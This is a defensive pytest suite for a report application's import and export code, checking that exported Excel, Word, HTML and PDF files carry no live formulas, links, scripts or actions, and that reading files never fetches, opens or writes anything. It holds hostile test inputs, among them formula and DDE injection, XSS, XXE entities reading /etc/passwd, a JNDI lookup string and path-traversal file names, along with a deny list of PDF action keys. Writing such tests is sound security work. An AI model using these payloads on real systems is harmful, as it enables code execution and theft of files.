"""What comes in is data: no formula, tag, script, entity, link or path of a file or of pasted text does anything."""

import io
import re
import zipfile
from collections.abc import Iterator
from functools import cache
from pathlib import Path

import openpyxl
import pytest
from audit import watched
from lxml import etree, html
from pdfminer.pdfdocument import PDFDocument
from pdfminer.pdfparser import PDFParser
from pdfminer.pdftypes import PDFObjRef, PDFStream

import forms
from nianbao.core.preamble import PREAMBLE
from nianbao.core.recognise import Proposal
from nianbao.core.report import Report
from nianbao.core.values import Value
from nianbao.files.editions import load_editions
from nianbao.files.readers.read import read_bytes_as
from nianbao.files.writers.export import WRITABLE, proven
from nianbao.files.writers.package import write_package
from reports import TEXTS, filled, with_values

EDITIONS = load_editions()
LINES = (
    '=HYPERLINK("http://x.example/","点这里")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "<script>alert(1)</script>",
    '<img src="http://x.example/a.png" onerror="alert(1)">',
    '<a href="javascript:alert(1)">点</a> <iframe src="file:///etc/passwd"></iframe>',
    '&lt;b&gt; &#65; <!ENTITY x SYSTEM "file:///etc/passwd">&x;',
    '#import "@preview/cades:0.3.0": *',
    '#read("/etc/passwd") $x^2$ *粗* _斜_ `代码` @引用 <标签> \\u{41}',
    "{{ 7*7 }} {% for x in y %} ${jndi:ldap://x.example} %s {0} {unit}",
    'HYPERLINK "http://x.example" \\o INCLUDETEXT "c:\\\\a.txt" DDEAUTO c:\\\\windows _x0041_',
    "javascript:alert(1) http://x.example/ mailto:a@b.example file:///etc/passwd",
)
SIGNS = ("=HYPERLINK", "<script>", "&#65;", "@preview", "{{ 7*7 }}", "javascript:")


def hostile() -> Report:
    """A report in which every text tries to be something else."""
    text = "\n".join(LINES)
    values: dict[str, Value] = dict.fromkeys((PREAMBLE, *TEXTS), text)
    values["unit.name"] = "<b>甲</b>=1+1&amp;镇"
    values["unit.address"] = '=HYPERLINK("http://x.example/")'
    values["unit.email"] = '"><script>x</script>@x.example'
    return with_values(filled(EDITIONS, "2021"), values)


REPORT = hostile()


@cache
def written(ending: str) -> bytes:
    data, proof = proven(REPORT, f"年报{ending}")
    assert proof.texts == (), "every letter comes back"
    return data


# out


SUM = re.compile(r"=SUM\([A-Z]+\d+:[A-Z]+\d+\)")  # sums of cells, which the program itself writes


def test_an_excel_file_has_no_formula_but_its_sums_and_no_link() -> None:
    data = written(".xlsx")
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    formulas = {str(cell.value) for cell in cells if cell.data_type == "f"}
    assert {formula for formula in formulas if not SUM.fullmatch(formula)} == set()
    assert [cell.coordinate for cell in cells if cell.hyperlink] == []
    assert any(cell.value.startswith("=HYPERLINK") for cell in cells if cell.data_type in "s" and cell.value)
    assert external_parts(data) == []


def external_parts(data: bytes) -> list[str]:
    """The parts of a package that lead out of it, or hold programs."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if name.endswith(".rels"):
                root = etree.fromstring(package.read(name))
                found += [link.get("Target") for link in root if link.get("TargetMode") == "External"]
            if any(word in name.lower() for word in ("vba", "activex", "externallink", "embeddings", "macro")):
                found.append(name)
    return found


W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
FIELDS = {"PAGE"}  # the number of the page at its foot


def test_a_word_file_has_no_field_link_or_object_but_its_page_numbers() -> None:
    data = written(".docx")
    assert external_parts(data) == []
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        parts = {name: etree.fromstring(package.read(name)) for name in package.namelist() if name.endswith(".xml")}
    tags = {node.tag for root in parts.values() for node in root.iter(etree.Element)}
    assert tags.isdisjoint({f"{W}{tag}" for tag in ("hyperlink", "object", "altChunk", "subDoc", "control", "pict")})
    fields = {node.get(f"{W}instr") for root in parts.values() for node in root.iter(f"{W}fldSimple")}
    fields |= {node.text for root in parts.values() for node in root.iter(f"{W}instrText")}
    assert {str(field).split()[0] for field in fields} <= FIELDS
    words = "".join(node.text or "" for node in parts["word/document.xml"].iter(f"{W}t"))
    assert [sign for sign in SIGNS if sign not in words] == []


HARMLESS = {
    *("html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "div", "section", "br", "span"),
    *("table", "colgroup", "col", "thead", "tbody", "tr", "td", "th", "caption", "strong", "main", "header", "footer"),
}


def test_a_web_page_has_no_script_link_picture_or_handler() -> None:
    page = html.document_fromstring(written(".html"))
    elements = [node for node in page.iter() if isinstance(node.tag, str)]
    assert {node.tag for node in elements} <= HARMLESS
    assert [name for node in elements for name in node.attrib if name.startswith("on") or name in ("href", "src")] == []
    assert [sign for sign in SIGNS if sign not in page.text_content()] == []


def pdf_objects(value: object, seen: set[int]) -> Iterator[object]:
    """Everything that can be reached from a value of a PDF file."""
    if isinstance(value, PDFObjRef):
        if value.objid in seen:
            return
        seen.add(value.objid)
        value = value.resolve()
    yield value
    inner = value.attrs if isinstance(value, PDFStream) else value
    if isinstance(inner, dict):
        yield inner
        for entry in inner.values():
            yield from pdf_objects(entry, seen)
    elif isinstance(inner, list):
        for entry in inner:
            yield from pdf_objects(entry, seen)


def test_a_pdf_file_has_no_action_link_or_embedded_file() -> None:
    document = PDFDocument(PDFParser(io.BytesIO(written(".pdf"))))
    objects = [found for found in pdf_objects(document.catalog, set()) if isinstance(found, dict)]
    assert len(objects) > 20
    doing = {"JS", "JavaScript", "AA", "OpenAction", "URI", "Launch", "EmbeddedFiles", "RichMedia", "XFA"}
    assert {name for found in objects for name in found} & doing == set()


def test_nothing_that_stands_in_a_text_is_fetched_or_opened_while_it_is_written(tmp_path: Path) -> None:
    for ending in WRITABLE:
        proven(REPORT, f"年报{ending}")  # libraries are loaded, fonts found
    with watched() as deeds:
        for ending in WRITABLE:
            proven(REPORT, f"年报{ending}")
    assert deeds.abroad == []
    assert [path for path in deeds.opened if "passwd" in path or "a.txt" in path] == []


# names


@pytest.mark.parametrize(
    "name", ["../../../外面", "..\\..\\外面", "/etc/镇", "C:\\镇", "a/b", "..", "CON", "镇\0", "\u202e镇", "~root"]
)
def test_a_name_out_of_a_file_never_leads_out_of_the_chosen_folder(tmp_path: Path, name: str) -> None:
    folder = tmp_path / "这里"
    folder.mkdir()
    made = write_package(with_values(filled(EDITIONS, "2021"), {"unit.name": name}), None, folder)
    assert made.folder.parent == folder
    assert [path.name for path in tmp_path.iterdir()] == ["这里"]
    files = [path for path in folder.rglob("*") if path.is_file()]
    assert {path.parent for path in files} == {made.folder}
    assert len(files) == len(made.files)


# in


def read(data: bytes, name: str) -> Report:
    proposal = read_bytes_as(name, data, EDITIONS)
    assert isinstance(proposal, Proposal)
    return proposal.report(EDITIONS)


@pytest.mark.parametrize("ending", [".docx", ".xlsx", ".html", ".txt", ".json", ".pdf"])
def test_what_looks_like_a_program_is_read_as_the_text_that_it_is(ending: str) -> None:
    again = read(written(ending), f"上年{ending}")
    for cell in TEXTS:
        assert [sign for sign in SIGNS if sign not in again.text(cell).replace("\n", "")] == []


def with_parts(data: bytes, **parts: str) -> bytes:
    """The package with parts changed or added; in the names, __ stands for / and _dot_ for a point."""
    added = {name.replace("__", "/").replace("_dot_", "."): text.encode() for name, text in parts.items()}
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(stream, "w") as new:
        for name in old.namelist():
            if name not in added:
                new.writestr(name, old.read(name))
        for name, content in added.items():
            new.writestr(name, content)
    return stream.getvalue()


RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def linking_word(secret: Path) -> bytes:
    """A Word file with a picture, a template and a chunk that lie elsewhere, and entities of all kinds."""
    data = proven(filled(EDITIONS, "2021"), "年报.docx")[0]
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        document = package.read("word/document.xml").decode()
    links = "".join(
        f'<Relationship Id="x{n}" Type="{KINDS}/{kind}" Target="{target}" TargetMode="External"/>'
        for n, (kind, target) in enumerate(
            (("image", secret.as_uri()), ("attachedTemplate", "http://x.example/t.dotm"), ("aFChunk", secret.as_uri()))
        )
    )
    head = f'<!DOCTYPE x [<!ENTITY secret SYSTEM "{secret.as_uri()}"><!ENTITY % out SYSTEM "http://x.example/d">]>'
    start = document.index("?>") + 2
    return with_parts(
        data,
        word__document_dot_xml=document[:start] + head + document[start:],
        word__settings_dot_xml_dot_rels=f'<Relationships xmlns="{RELS}">{links}</Relationships>',
    )


def linking_page(secret: Path) -> bytes:
    page = proven(filled(EDITIONS, "2021"), "年报.html")[0].decode()
    more = (
        f'<base href="http://x.example/"><link rel="stylesheet" href="{secret.as_uri()}">'
        f'<meta http-equiv="refresh" content="0;url=http://x.example/"><script src="{secret.as_uri()}"></script>'
    )
    body = f'<img src="{secret.as_uri()}"><iframe src="{secret.as_uri()}"></iframe><object data="http://x.example/">'
    return page.replace("<head>", f"<head>{more}").replace("</body>", f"{body}</body>").encode()


@pytest.mark.parametrize(("name", "made"), [("上年.docx", linking_word), ("上年.html", linking_page)])
def test_what_a_file_points_to_is_neither_fetched_nor_opened(tmp_path: Path, name: str, made) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("不该读到的话", encoding="utf-8")
    data = made(secret)
    read(data, name)  # libraries are loaded
    with watched() as deeds:
        report = read(data, name)
    assert deeds.abroad == []
    assert [path for path in deeds.opened if path.endswith("secret.txt")] == []
    assert "不该读到的话" not in "".join(str(value) for value in report.values.values())
    assert len(report.values) > 200, "the rest of it is read all the same"


def test_a_formula_in_a_file_that_is_read_is_not_calculated() -> None:
    """Its saved result is taken; one without a result is named, not guessed."""
    book = openpyxl.load_workbook(io.BytesIO(proven(filled(EDITIONS, "2021"), "年报.xlsx")[0]))
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value == filled(EDITIONS, "2021").get("applications.received.person"):
                    cell.value = '=WEBSERVICE("http://x.example/")'
    stream = io.BytesIO()
    book.save(stream)
    with watched() as deeds:
        proposal = read_bytes_as("上年.xlsx", stream.getvalue(), EDITIONS)
    assert deeds.abroad == []
    assert "applications.received.person" not in proposal.values
    assert any("公式" in problem.sentence for problem in proposal.problems)


@pytest.mark.parametrize("names", [("../../../x", "/etc/x", "C:\\x"), ("word/../../x",), ("xl/" + "a" * 5000,)])
def test_names_in_a_package_are_not_paths(tmp_path: Path, names: tuple[str, ...], monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    stream = io.BytesIO(proven(filled(EDITIONS, "2021"), "年报.docx")[0])
    with zipfile.ZipFile(stream, "a") as package:
        for name in names:
            package.writestr(name, "x")
    with watched() as deeds:
        read(stream.getvalue(), "上年.docx")
    assert [path for path in deeds.written if str(tmp_path) in path or path.endswith("x")] == []
    assert list(tmp_path.iterdir()) == []


MADE = {
    ".xlsx": lambda: written(".xlsx"),
    ".xls": lambda: forms.xls(forms.one_sheet(REPORT)),
    ".ods": lambda: forms.ods(forms.one_sheet(REPORT)),
    ".docx": lambda: written(".docx"),
    ".pdf": lambda: written(".pdf"),
    ".html": lambda: written(".html"),
}


@pytest.mark.parametrize("ending", MADE)
def test_reading_writes_nothing_anywhere(ending: str) -> None:
    """Not even a temporary file: whoever reads a report from a stick leaves nothing of it on the machine."""
    data = MADE[ending]()
    read(data, f"上年{ending}")  # libraries are loaded
    with watched() as deeds:
        read(data, f"上年{ending}")
    assert deeds.written == []
